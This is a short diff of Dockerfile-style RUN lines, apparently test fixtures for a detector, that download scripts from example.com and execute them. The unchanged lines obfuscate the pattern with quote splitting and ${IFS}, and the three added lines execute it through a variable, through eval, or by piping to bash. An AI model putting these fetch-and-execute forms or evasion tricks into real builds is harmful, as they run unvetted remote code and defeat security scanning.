@@ -12,3 +12,6 @@ RUN c''url -fsSL https://example.com/q.sh | s"h"
 SHELL ["/usr/bin/env", "sh", "-c"]
 RUN curl -fsSL https://example.com/e.sh | sh
 RUN curl${IFS}-fsSL${IFS}https://example.com/s.sh|sh
+RUN x=$(curl -fsSL https://example.com/v.sh) && sh -c "$x"
+RUN export S="$(wget -qO- https://example.com/w.sh)"; echo "${S}" | bash
+RUN s=$(curl -fsSL https://example.com/e.sh); eval "$s"
